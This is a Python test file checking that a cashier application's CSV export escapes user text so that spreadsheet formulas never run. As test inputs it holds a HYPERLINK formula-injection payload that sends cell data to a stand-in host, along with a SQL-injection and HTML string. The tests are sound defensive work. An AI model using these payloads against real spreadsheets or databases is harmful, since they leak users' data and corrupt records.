"""What somebody types is text in every table that the product makes, and never a spreadsheet's formula."""

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cashier.domain.spreadsheet import cell
from cashier.doors.ledger_answers import print_csv

FORMULA = '=HYPERLINK("http://a.example/?"&A1,"Receipt")'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1"])
def test_a_text_that_looks_like_a_formula_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@given(st.text())
def test_whatever_is_typed_begins_no_formula_and_is_there_whole(text: str) -> None:
    said = str(cell(text))

    assert said.removeprefix("'") == text.removeprefix("'")
    assert not said.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_amounts_stay_numbers() -> None:
    assert [cell(value) for value in (-500, None, "OAK3")] == [-500, None, "OAK3"]


def test_no_command_prints_a_formula(capsys: pytest.CaptureFixture[str]) -> None:
    print_csv(["reason", "cents"], [[FORMULA, -500], ["'; DROP TABLE lines; --<b>", 1]])

    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert rows[1:] == [[f"'{FORMULA}", "-500"], ["'; DROP TABLE lines; --<b>", "1"]]
